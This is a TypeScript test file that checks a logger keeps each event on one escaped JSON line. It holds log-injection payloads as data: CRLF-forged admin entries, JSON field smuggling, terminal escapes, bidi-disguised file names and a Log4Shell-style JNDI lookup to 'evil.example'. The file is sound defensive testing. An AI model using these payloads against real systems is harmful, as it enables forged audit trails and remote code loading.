// AU-01, HS-40, UT-14, CL-20, JS-28: what a peer says must stay inside its own value of its own line.
import { describe, expect, it } from 'vitest';
import { Journal } from '../support/journal.ts';

const at = (...points: number[]) => String.fromCodePoint(...points);

const PAYLOADS: readonly (readonly [name: string, text: string])[] = [
  ['a second line', 'x\r\n{"level":"info","event":"session.opened","subject":"admin"}'],
  ['a closed string', 'x","event":"admin.action","who":"root'],
  ['a terminal escape', `${at(0x1b)}[2J${at(0x1b)}]0;owned${at(7)}`],
  ['an eight-bit terminal escape', `${at(0x9b)}31m`],
  ['line separators', `a${at(0x2028)}b${at(0x2029)}c${at(0x85)}d`],
  ['text that turns around', `user${at(0x202e)}gnp.exe${at(0x2066)}`],
  ['hidden text', `a${at(0x200b)}${at(0xe0041)}${at(0xfeff)}b`],
  ['invalid UTF-8', Buffer.from([0x61, 0xc0, 0xaf, 0xff, 0x62]).toString('latin1')],
  ['half a surrogate pair', 'a\ud83d'],
  ['field separators of other formats', 'a|b=c\\|d\\=e]"\\'],
  ['a lookup', `\${jndi:ldap://evil.example/a} T(java.lang.Runtime)`],
  ['a prototype', '__proto__'],
  ['64 KiB', `${'A'.repeat(65_536)}\n`],
  ['64 KiB that grow when escaped', at(0x1b).repeat(65_536)],
];

describe('a forged log line', () => {
  it.each(PAYLOADS)('%s stays one record on one line', (_name, text) => {
    const journal = new Journal();
    journal.record.event('upgrade.refused', {
      path: text,
      host: text,
      origin: text,
      subject: text,
      tenant: text,
      reason: text,
      code: 'origin_denied',
    });
    expect(journal.raw).toHaveLength(1);
    const [line = ''] = journal.raw;
    expect(line.trimEnd()).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
    expect(line.length).toBeLessThan(4_096);
    const { event, path, ...rest } = JSON.parse(line);
    expect(event).toBe('upgrade.refused');
    expect(rest).not.toHaveProperty('who');
    expect(Object.getPrototypeOf(rest)).toBe(Object.prototype);
    if (text.length > 1_000) expect(path).toMatch(/cut from 6553/);
    else expect(readBack(path)).toBe(text);
  });
});

/** What was escaped can be read back: nothing was lost, only made visible. */
function readBack(text: string): string {
  return text.replace(/\\(?:\\|u\{([0-9a-f]+)\})/g, (_, hex: string | undefined) =>
    hex ? String.fromCodePoint(Number.parseInt(hex, 16)) : '\\',
  );
}
